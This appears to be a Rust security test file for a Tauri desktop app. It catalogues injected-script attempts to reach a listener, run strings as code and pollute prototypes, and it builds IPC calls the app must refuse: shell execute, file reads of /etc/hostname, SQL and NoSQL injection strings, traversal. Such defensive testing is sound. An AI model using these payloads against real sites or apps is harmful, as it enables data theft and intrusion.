//! What a script would try that had got into the page: to send something out, to run more, to spoil what others stand on,
//! and to call the shell past its one command.

use casebook_core::api::LIST;
use serde_json::{Value, json};

/// What a move is after.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Aim {
    /// Reaching the listener.
    Out,
    /// Running text as a program: `ran` is set.
    Run,
    /// Changing what every object stands on: `({}).polluted` is there.
    Spoil,
}

/// A name and a script that knows `here` (the listener), `add(tag, attributes)` and `done(word)`.
pub type Move = (&'static str, Aim, &'static str);

pub const MOVES: &[Move] = &[
    (
        "fetch",
        Aim::Out,
        "fetch(`http://${here}/fetch`).then(() => done('came'), () => done('refused'))",
    ),
    (
        "fetch without an answer",
        Aim::Out,
        "fetch(`http://${here}/blind`, { mode: 'no-cors', method: 'POST', body: 'x' }).then(() => done('came'), () => done('refused'))",
    ),
    (
        "XMLHttpRequest",
        Aim::Out,
        "const x = new XMLHttpRequest(); x.onload = () => done('came'); x.onerror = () => done('refused'); x.open('GET', `http://${here}/xhr`); x.send()",
    ),
    (
        "WebSocket",
        Aim::Out,
        "const w = new WebSocket(`ws://${here}/socket`); w.onopen = () => done('came'); w.onerror = () => done('refused')",
    ),
    (
        "EventSource",
        Aim::Out,
        "const e = new EventSource(`http://${here}/events`); e.onerror = () => done('refused')",
    ),
    (
        "beacon",
        Aim::Out,
        "if (!navigator.sendBeacon(`http://${here}/beacon`, 'x')) done('refused')",
    ),
    (
        "ping of a link",
        Aim::Out,
        "add('a', { href: '#x', ping: `http://${here}/ping` }).click()",
    ),
    (
        "image",
        Aim::Out,
        "const i = new Image(); i.onload = () => done('came'); i.onerror = () => done('refused'); i.src = `http://${here}/image`",
    ),
    (
        "style sheet",
        Aim::Out,
        "add('link', { rel: 'stylesheet', href: `http://${here}/sheet` })",
    ),
    (
        "prefetch",
        Aim::Out,
        "add('link', { rel: 'prefetch', href: `http://${here}/prefetch` })",
    ),
    (
        "preload",
        Aim::Out,
        "add('link', { rel: 'preload', as: 'image', href: `http://${here}/preload` })",
    ),
    (
        "script from outside",
        Aim::Out,
        "add('script', { src: `http://${here}/script` })",
    ),
    (
        "module from outside",
        Aim::Out,
        "import(`http://${here}/script`).then(() => done('came'), () => done('refused'))",
    ),
    (
        "frame",
        Aim::Out,
        "add('iframe', { src: `http://${here}/frame` })",
    ),
    (
        "frame in a frame's text",
        Aim::Out,
        "add('iframe', { srcdoc: `<img src=http://${here}/inner>` })",
    ),
    (
        "object",
        Aim::Out,
        "add('object', { data: `http://${here}/object` })",
    ),
    (
        "embed",
        Aim::Out,
        "add('embed', { src: `http://${here}/embed` })",
    ),
    (
        "video",
        Aim::Out,
        "add('video', { src: `http://${here}/video`, preload: 'auto' }).onerror = () => done('refused')",
    ),
    (
        "audio",
        Aim::Out,
        "add('audio', { src: `http://${here}/audio`, preload: 'auto' }).onerror = () => done('refused')",
    ),
    (
        "picture of a style",
        Aim::Out,
        "add('div', { style: `width:9px;height:9px;background:url(http://${here}/background)` })",
    ),
    (
        "letters",
        Aim::Out,
        "new FontFace('x', `url(http://${here}/font)`).load().then(() => done('came'), () => done('refused'))",
    ),
    (
        "form",
        Aim::Out,
        "const f = add('form', { action: `http://${here}/form`, method: 'post' }); f.submit()",
    ),
    (
        "worker from outside",
        Aim::Out,
        "const w = new Worker(`http://${here}/script`); w.onerror = () => done('refused')",
    ),
    (
        "service worker",
        Aim::Out,
        "navigator.serviceWorker.register(`http://${here}/script`).then(() => done('came'), () => done('refused'))",
    ),
    (
        "call to another's telephone",
        Aim::Out,
        "const p = new RTCPeerConnection({ iceServers: [{ urls: `turn:${here}?transport=tcp`, username: 'x', credential: 'x' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))",
    ),
    (
        "new window",
        Aim::Out,
        "const w = window.open(`http://${here}/window`); if (!w) done('refused')",
    ),
    (
        "link into a new window",
        Aim::Out,
        "add('a', { href: `http://${here}/blank`, target: '_blank' }).click()",
    ),
    (
        "link",
        Aim::Out,
        "add('a', { href: `http://${here}/link` }).click()",
    ),
    (
        "going elsewhere",
        Aim::Out,
        "location.href = `http://${here}/elsewhere`",
    ),
    (
        "being replaced",
        Aim::Out,
        "location.replace(`http://${here}/replaced`)",
    ),
    (
        "refresh",
        Aim::Out,
        "add('meta', { 'http-equiv': 'refresh', content: `0;url=http://${here}/refresh` })",
    ),
    (
        "another base",
        Aim::Out,
        "add('base', { href: `http://${here}/` }); const i = new Image(); i.src = 'based'",
    ),
    ("eval", Aim::Run, "eval('window.ran = 1')"),
    ("new Function", Aim::Run, "new Function('window.ran = 1')()"),
    (
        "text as a timer",
        Aim::Run,
        "setTimeout('window.ran = 1', 0)",
    ),
    (
        "text as an interval",
        Aim::Run,
        "setInterval('window.ran = 1', 50)",
    ),
    (
        "inline script",
        Aim::Run,
        "add('script', {}, 'window.ran = 1')",
    ),
    (
        "inline module",
        Aim::Run,
        "add('script', { type: 'module' }, 'window.ran = 1')",
    ),
    (
        "inline attribute",
        Aim::Run,
        "add('button', { onclick: 'window.ran = 1' }).click()",
    ),
    (
        "javascript: link",
        Aim::Run,
        "add('a', { href: 'javascript:void(window.ran = 1)' }).click()",
    ),
    (
        "javascript: location",
        Aim::Run,
        "location.href = 'javascript:void(window.ran = 1)'",
    ),
    (
        "javascript: frame",
        Aim::Run,
        "add('iframe', { src: 'javascript:void(parent.ran = 1)' })",
    ),
    (
        "frame with a script",
        Aim::Run,
        "add('iframe', { srcdoc: '<script>parent.ran = 1</script>' })",
    ),
    (
        "blob as a script",
        Aim::Run,
        "add('script', { src: URL.createObjectURL(new Blob(['window.ran = 1'], { type: 'text/javascript' })) })",
    ),
    (
        "data as a script",
        Aim::Run,
        "add('script', { src: 'data:text/javascript,window.ran=1' })",
    ),
    (
        "data as a module",
        Aim::Run,
        "import('data:text/javascript,window.ran=1').then(() => done('came'), () => done('refused'))",
    ),
    (
        "blob as a worker",
        Aim::Run,
        "const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => { window.ran = 1 }; w.onerror = () => done('refused')",
    ),
    (
        "fragment with a script",
        Aim::Run,
        "document.body.append(document.createRange().createContextualFragment('<script>window.ran = 1</script>'))",
    ),
    (
        "markup with a broken picture",
        Aim::Run,
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = 1\">')",
    ),
    (
        "data as a page",
        Aim::Run,
        "location.href = 'data:text/html,<script>window.ran=1</script>'",
    ),
    (
        "prototype by name",
        Aim::Spoil,
        "Object.prototype.polluted = 1",
    ),
    (
        "prototype by __proto__",
        Aim::Spoil,
        "({}).__proto__.polluted = 1",
    ),
    (
        "prototype by definition",
        Aim::Spoil,
        "Object.defineProperty(Object.prototype, 'polluted', { value: 1, configurable: true })",
    ),
    (
        "prototype by assignment",
        Aim::Spoil,
        "Object.assign(Object.prototype, { polluted: 1 })",
    ),
    (
        "prototype by constructor",
        Aim::Spoil,
        "({}).constructor.prototype.polluted = 1",
    ),
];

/// The script of a move, ending with a word: `came`, `refused` or `silent`.
pub fn script((_, aim, body): &Move) -> String {
    let (patience, won) = match aim {
        Aim::Out => (700, "false"),
        Aim::Run => (300, "window.ran === 1"),
        Aim::Spoil => (0, "({}).polluted === 1"),
    };
    format!(
        "const [here, finish] = arguments;
        let over = false;
        const done = (word) => {{ if (!over) {{ over = true; finish(word); }} }};
        const add = (tag, attributes, text) => {{
            const element = document.createElement(tag);
            for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
            if (text) element.textContent = text;
            (['link', 'meta', 'base'].includes(tag) ? document.head : document.body).append(element);
            return element;
        }};
        setTimeout(() => done({won} ? 'came' : 'silent'), {patience});
        document.addEventListener('securitypolicyviolation', () => done({won} ? 'came' : 'refused'), {{ once: true }});
        try {{ {body} }} catch (error) {{ done('refused'); }}"
    )
}

/// Takes back what a move put into the page.
pub const TIDY: &str = "for (const e of document.querySelectorAll('body > :not(#app):not([data-testid]), head > base, \
    head > meta[http-equiv=refresh], head > link[href^=http]')) \
    if (['A','AUDIO','BASE','BUTTON','DIV','EMBED','FORM','IFRAME','IMG','LINK','META','OBJECT','SCRIPT','VIDEO']\
    .includes(e.tagName) && !e.childElementCount) e.remove();
    return [window.ran ?? null, ({}).polluted ?? null, location.href, document.querySelectorAll('iframe').length]";

/// Calls of the shell that no page of ours makes: what is invoked and with what. Each must be refused.
pub fn calls() -> Vec<(String, Value)> {
    let plugins = [
        "plugin:window|close",
        "plugin:window|create",
        "plugin:window|set_title",
        "plugin:webview|create_webview_window",
        "plugin:webview|internal_toggle_devtools",
        "plugin:app|version",
        "plugin:path|resolve_directory",
        "plugin:event|emit",
        "plugin:event|emit_to",
        "plugin:dialog|open",
        "plugin:dialog|save",
        "plugin:dialog|message",
        "plugin:fs|read_text_file",
        "plugin:fs|write_file",
        "plugin:shell|execute",
        "plugin:shell|open",
        "plugin:opener|open_path",
        "plugin:http|fetch",
        "plugin:process|exit",
        "plugin:clipboard-manager|read_text",
        "plugin:updater|check",
        "plugin:resources|close",
        "plugin:menu|new",
        "plugin:tray|new",
        "plugin:image|from_path",
        "plugin:__TAURI_CHANNEL__|fetch",
        "core:default",
        "allow-rpc",
        "RPC",
        "rpc ",
        "",
        "__proto__",
    ];
    let mut calls: Vec<(String, Value)> = plugins
        .iter()
        .map(|name| {
            (
                (*name).to_owned(),
                json!({ "path": "/etc/hostname", "label": "main" }),
            )
        })
        .collect();
    let bodies = [
        json!({}),
        json!({ "cmd": 1, "payload": {} }),
        json!({ "cmd": null, "payload": {} }),
        json!({ "cmd": ["boot"], "payload": {} }),
        json!({ "cmd": "boot" }),
        json!({ "cmd": "boot", "payload": null }),
        json!({ "cmd": "boot", "payload": [] }),
        json!({ "cmd": "boot", "payload": "{}" }),
        json!({ "cmd": "", "payload": {} }),
        json!({ "cmd": "BOOT", "payload": {} }),
        json!({ "cmd": "boot ", "payload": {} }),
        json!({ "cmd": "__proto__", "payload": {} }),
        json!({ "cmd": "../boot", "payload": {} }),
        json!({ "cmd": "case_get", "payload": { "case": "' OR 1=1 --" } }),
        json!({ "cmd": "case_get", "payload": { "case": 9_007_199_254_740_993_i64 } }),
        json!({ "cmd": "case_list", "payload": { "query": {}, "after": null, "limit": -1 } }),
        json!({ "cmd": "case_list", "payload": { "query": {}, "after": null, "limit": 100_000 } }),
        json!({ "cmd": "find", "payload": { "text": { "$ne": null } } }),
        json!({ "cmd": "export_folder_set", "payload": { "folder": 5 } }),
        json!({ "cmd": "find", "payload": { "text": "x".repeat(9 << 20) } }),
    ];
    calls.extend(bodies.map(|body| ("rpc".to_owned(), body)));
    // No command takes a field that it does not know.
    calls.extend(LIST.iter().map(|(cmd, _)| {
        let body = json!({ "cmd": cmd, "payload": { "unexpected": { "__proto__": 1 } } });
        ("rpc".to_owned(), body)
    }));
    calls
}
